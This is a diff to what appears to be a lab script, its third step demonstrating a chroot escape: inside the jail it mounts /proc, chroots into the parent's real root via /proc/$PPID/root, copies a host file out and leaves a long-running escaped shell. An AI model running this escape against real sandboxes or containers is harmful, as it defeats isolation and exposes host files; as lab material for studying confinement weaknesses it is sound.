@@ -20,11 +20,14 @@ sleep 1
 readlink /proc/$!/root
 
 # --- step 3
-chroot /srv/lab02/rootfs /bin/sh -c '
+LAB=02 chroot /srv/lab02/rootfs /bin/sh -c '
   mount -t proc proc /proc
-  ls /proc/$PPID/root/etc/os-release
-  chroot /proc/$PPID/root /bin/sh -c "cp /etc/os-release /srv/lab02/escaped"
-  umount /proc'
+  chroot /proc/$PPID/root /bin/sh -c "umount /srv/lab02/rootfs/proc; cp /etc/os-release /srv/lab02/escaped; exec sleep 86400"
+  echo "the escaped shell has ended"' >/dev/null 2>&1 &
+CHROOTED=$!
+for try in 1 2 3 4 5 6 7 8 9 10; do [ -s /srv/lab02/escaped ] && break; sleep 0.5; done
+ESCAPED=$(pgrep -P $CHROOTED)
+readlink /proc/$CHROOTED/root /proc/$ESCAPED/root
 head -1 /srv/lab02/escaped
 
 # --- step 4
